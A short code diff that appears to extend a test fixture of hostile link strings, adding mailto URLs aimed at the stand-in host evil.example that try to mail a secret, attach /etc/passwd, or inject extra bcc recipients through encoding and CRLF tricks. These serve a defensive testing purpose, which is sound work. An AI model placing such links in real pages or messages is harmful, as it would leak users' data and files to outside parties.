@@ -140,6 +140,8 @@ export const schemeTexts: HostileTexts = {
     text: links(
       'mailto:a@evil.example?subject=x&body=secret',
       'mailto:a@evil.example?attach=/etc/passwd',
+      'mailto:a@evil.example?subject=x&%62cc=b@evil.example',
+      'mailto:a@evil.example,b@evil.example',
       'MAILTO:a@evil.example%0d%0abcc:b@evil.example',
     ),
   },
